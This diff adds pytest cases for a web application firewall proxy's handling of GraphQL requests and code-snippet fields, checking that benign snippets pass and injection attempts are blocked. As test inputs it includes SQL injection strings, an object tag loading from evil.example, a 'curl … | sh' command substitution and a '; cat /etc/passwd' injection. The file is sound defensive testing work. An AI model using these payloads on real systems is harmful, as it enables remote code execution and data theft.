@@ -6,6 +6,7 @@ still refused, by the default rules standing in for the CRS's there
 (90032-90035); `exclude` of a CRS rule removes its stand-in too; `defaults
 off` gives the CRS's verdicts back."""
 
+import json
 from urllib.parse import quote, urlencode
 
 import pytest
@@ -144,4 +145,84 @@ def test_defaults_off_refuses_the_new_shapes(gatehouse, origin, port):
     start(gatehouse, port, origin, waf="defaults off")
     assert send(port, "POST", "/api/articles", VND_JSON, b'{"data": {}}').status == 403
     assert send(port, "GET", RETURN_URL).status == 403
+    assert untouched(origin)
+
+
+# D15 (GraphQL documents: 942190 -> 90037) and D16 (code-sharing fields: the
+# free-text treatment, 90038-90041), tests/waf/default-exclusions.md, "Third
+# round".
+
+GQL_USER = json.dumps({"query": "query($login: String!) { user(login: $login) { name bio "
+                                "followers { totalCount } } }",
+                       "variables": {"login": "octocat"}}).encode()
+GQL_CREATE = json.dumps({"query": "mutation M($in: UserInput!) { createUser(input: $in) { id } "
+                                  "updateUser(id: 4, name: \"Zoe\") { id } }"}).encode()
+
+
+def test_graphql_fields_named_like_sql_functions(gatehouse, origin, port):
+    g = start(gatehouse, port, origin)
+    assert send(port, "POST", "/api/graphql", JSON, GQL_USER).status == 200
+    assert send(port, "POST", "/graphql", JSON, GQL_CREATE).status == 200
+    assert send(port, "GET", "/graphql?query=" + quote("{ user(id: 4) { name } }")).status == 200
+    hits = origin.stats.heads
+    # 942190's own shape in a literal of the document: 90037 refuses it alone
+    r = send(port, "POST", "/graphql", JSON,
+             json.dumps({"query": '{ user(id: "1 union select current_user()") { name } }'}).encode())
+    assert r.status == 403
+    assert blocked_by(g, "90037"), g.stderr_tail()
+    # the variables are not the document: 942190 still reads them
+    r = send(port, "POST", "/graphql", JSON, json.dumps({
+        "query": "query U($l: String!) { user(login: $l) { id } }",
+        "variables": {"l": "x' union select password from users-- "}}).encode())
+    assert r.status == 403
+    assert blocked_by(g, "942190"), g.stderr_tail()
+    # a `query` argument elsewhere than a GraphQL path: the CRS as shipped
+    assert send(port, "POST", "/api/search", JSON, GQL_USER).status == 403
+    assert origin.stats.heads == hits
+
+
+def test_exclude_942190_removes_the_graphql_stand_in(gatehouse, origin, port):
+    start(gatehouse, port, origin, waf="exclude 942190")
+    r = send(port, "POST", "/graphql", JSON,
+             json.dumps({"query": '{ user(id: "1 union select current_user()") { name } }'}).encode())
+    assert r.status == 200
+
+
+SNIPPETS = [
+    {"language": "bash", "code": "#!/bin/sh\nset -e\ncd /var/www/app && git pull && npm ci"},
+    {"language": "html", "code": "<div class=\"card\"><img src=\"/img/a.png\" alt=\"A\"><p>Hi</p></div>"},
+    {"language": "sql", "code": "SELECT date(created_at) AS day, count(*) FROM orders "
+                                "GROUP BY 1 ORDER BY 1 DESC;"},
+]
+
+
+def test_code_in_a_code_sharing_resource(gatehouse, origin, port):
+    g = start(gatehouse, port, origin)
+    for path in ("/api/v1/snippets", "/gists/9f1c", "/pastes/"):
+        for s in SNIPPETS:
+            assert send(port, "POST", path, JSON, json.dumps(s).encode()).status == 200, (path, s)
+    assert send(port, "POST", "/snippets/new", FORM,
+                form(title="t", code="SELECT id FROM orders WHERE total > 10;")).status == 200
+    hits = origin.stats.heads
+    for code, rule in (
+            ("x' or '1'='1", "90038"),
+            ("<p>ok</p><object data=//evil.example/x></object>", "90039"),
+            ("$(curl -s http://203.0.113.9/x|sh)", "90040"),
+            ("hello; cat /etc/passwd", "90041")):
+        r = send(port, "POST", "/api/v1/snippets", JSON, json.dumps({"code": code}).encode())
+        assert r.status == 403, code
+        assert blocked_by(g, rule), (rule, g.stderr_tail())
+    # `code` anywhere else (a coupon, an OAuth code) and paths that only
+    # look like a snippet store: every rule reads it
+    for path in ("/api/v1/coupons/apply", "/api/v1/coupons/apply;/snippets",
+                 "/api/v1/snippets/x/run"):
+        r = send(port, "POST", path, JSON, json.dumps(SNIPPETS[0]).encode())
+        assert r.status == 403, path
+    assert origin.stats.heads == hits
+
+
+def test_defaults_off_refuses_graphql_and_snippets(gatehouse, origin, port):
+    start(gatehouse, port, origin, waf="defaults off")
+    assert send(port, "POST", "/api/graphql", JSON, GQL_USER).status == 403
+    assert send(port, "POST", "/api/v1/snippets", JSON, json.dumps(SNIPPETS[2]).encode()).status == 403
     assert untouched(origin)
